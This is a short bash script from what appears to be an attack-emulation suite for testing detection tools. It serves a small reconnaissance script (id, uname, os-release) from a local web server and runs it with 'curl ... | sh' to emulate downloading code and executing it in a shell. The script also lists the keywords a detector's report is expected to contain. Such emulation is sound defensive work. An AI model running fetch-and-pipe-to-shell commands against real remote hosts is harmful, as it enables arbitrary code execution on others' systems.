#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1105 Ingress Tool Transfer
# tactic: execution, command-and-control
# what: `curl -s http://127.0.0.1:PORT/x.sh | sh`: a script fetched from a web server the
#   scenario runs is piped straight into sh and never touches the disk; it runs `id`,
#   `uname -a` and `cat /etc/os-release`.
# report: a download piped into a shell interpreter: curl's output is sh's stdin.
# expect: pipe|piped|download
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl

emul_tmpdir
printf 'id\nuname -a\ncat /etc/os-release | head -2\n' >"$EMUL_DIR/x.sh"
emul_server http --dir "$EMUL_DIR"
sh -c "curl -s http://127.0.0.1:$EMUL_PORT/x.sh | sh"
